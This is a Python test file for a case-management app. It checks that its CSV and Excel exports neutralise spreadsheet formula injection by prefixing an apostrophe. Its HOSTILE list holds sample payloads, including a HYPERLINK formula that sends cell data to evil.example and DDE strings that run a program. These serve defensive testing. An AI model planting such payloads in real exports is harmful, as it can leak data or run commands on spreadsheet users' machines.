"""No spreadsheet Samplan writes can hold a formula (OWASP "CSV injection").

Every file is opened again the way a reader's program would (the csv module, openpyxl) and
every cell checked: nothing starts like a formula, no Excel cell is of the formula type, and
the typed text is still there to read (behind one apostrophe).
"""

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from exports.cells import FORMULA_STARTS, csv_text, safe_cell, safe_text
from exports.citizen_copy import build_citizen_copy_zip
from exports.spreadsheets import overview_csv, overview_xlsx
from models.overview import Overview
from models.overview_counting import (
    ConsentRow,
    LoadRow,
    MatrixCell,
    MedianRow,
    MeetingRow,
    NeedRow,
    OnTimeRow,
    OwnerChangeRow,
    ScoreRow,
)
from models.overview_lookups import OVERALL, Period

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',  # sends a click (and a cell) anywhere
    "=cmd|' /C calc'!A0",  # DDE: runs a program in old Excel
    "+1+cmd|' /C calc'!A0",  # + starts a formula too
    "-2+3",  # so does -
    "@SUM(1+1)*cmd|' /C calc'!A0",  # and @
    "\t=1+1",  # a tab in front is skipped by some readers
    "\r=1+1",  # so is a carriage return
    " =1+1",  # and leading spaces by some
    "＝1+1",  # full-width equals sign: read as = by some spreadsheets
]


def looks_like_formula(text: str) -> bool:
    """Starts like a formula and is not simply a (negative) number such as -2,0."""
    try:
        float(text.replace(",", "."))
        return False
    except ValueError:
        return text.startswith(FORMULA_STARTS) or text.lstrip(" ").startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_possible_formula_gets_an_apostrophe_and_stays_readable(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Jobcenter", "Jobcenter"),  # ordinary text untouched
        ("Kr. 1+1 = 2", "Kr. 1+1 = 2"),  # a formula sign inside the text is harmless
        (-3, -3),  # a negative count is a number, not text
        (-1.5, -1.5),  # so is a negative mean
        (None, None),  # nothing stays nothing
        (float("nan"), None),  # pandas' missing value too
        (date(2026, 1, 2), date(2026, 1, 2)),  # dates stay dates
    ],
)
def test_safe_cell_leaves_numbers_and_plain_text_alone(value, expected):
    assert safe_cell(value) == expected


def hostile_overview(text: str) -> Overview:
    """Typed text everywhere it can reach the overview: a department's name, an unmet need, a
    citizen's name; and a negative mean that must stay a number."""
    dep = text
    return Overview(
        period=Period(date(2026, 1, 1), date(2026, 6, 30)),
        on=date(2026, 7, 1),
        load=[LoadRow(OVERALL, 40, 30), LoadRow(dep, 20, 10)],
        median_days=[MedianRow(OVERALL, 30, 10.0), MedianRow(dep, 20, 20.0)],
        on_time=[OnTimeRow(OVERALL, 60, 20, 1 / 3), OnTimeRow(dep, 40, 10, 0.25)],
        owner_changes=[OwnerChangeRow(OVERALL, 40, 30, 4 / 3), OwnerChangeRow(dep, 30, 20, 1.5)],
        meetings=[MeetingRow(OVERALL, 30, 40, 2.5, 3.0), MeetingRow(dep, 20, 30, 2.0, 3.0)],
        consents=[ConsentRow(OVERALL, 30, 10, 10), ConsentRow(dep, 20, 0, 10)],
        matrix=[MatrixCell(dep, dep, 20)],
        scores=[ScoreRow(OVERALL, 30, 10, 10, 10, -2.0), ScoreRow(dep, 20, 5, 5, 10, -0.5)],
        needs_total=1,
        needs=[NeedRow(1, text, date(2026, 2, 1), dep, 3, text)],
        needs_own_total=1,
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_the_overview_csv_holds_no_formula(text):
    data = overview_csv(hostile_overview(text)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if looks_like_formula(cell)]
    assert "'" + text in cells  # the department's name, readable
    values = {(r[1], r[3]): r[4] for r in rows[1:] if r[0] == "Skaleringer"}
    assert values[("I alt", "Gennemsnitlig ændring")] == "-2,0"  # a number, not text


@pytest.mark.parametrize("text", HOSTILE)
def test_the_overview_excel_file_holds_no_formula(text):
    book = openpyxl.load_workbook(io.BytesIO(overview_xlsx(hostile_overview(text))))
    texts, numbers = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers.append(cell.value)
    assert not [t for t in texts if looks_like_formula(t)]
    need = book["Uløste behov"]
    assert need["B2"].value == "'" + text and need["D2"].value == "'" + text  # need and citizen
    assert book["Borgere x afdelinger"]["B1"].value == "'" + text  # a department as a heading
    assert -2 in numbers  # the negative mean change is still a number


@pytest.mark.parametrize("text", HOSTILE)
def test_the_citizens_copy_access_log_holds_no_formula(db_url, text):
    """A user's name is typed by an administrator; it reaches the access log in the zip."""
    from models.access import Actor
    from models.db import session_scope
    from models.demo import ditte_document
    from models.exchange import import_document
    from models.rights import citizen_copy
    from tests.factories import make_user

    with session_scope(write=True) as s:
        ditte_id = import_document(session=s, doc=ditte_document(), actor=None)[0].id
        admin = Actor.from_user(make_user(s, username="admin", role="admin", full_name=text))
    with session_scope(write=True) as s:
        copy = citizen_copy(session=s, actor=admin, citizen_id=ditte_id)
    archive = zipfile.ZipFile(io.BytesIO(build_citizen_copy_zip(copy)))
    rows = list(csv.reader(io.StringIO(archive.read("adgangslog.csv").decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if looks_like_formula(cell)]
    assert "'" + text in [row[1] for row in rows[1:]]


def test_csv_text_writes_numbers_with_the_given_decimal_mark():
    text = csv_text([["a", -1, -1.5, None]], delimiter=";", number=lambda v: str(v).replace(".", ","))
    assert text == "a;-1;-1,5;\r\n"
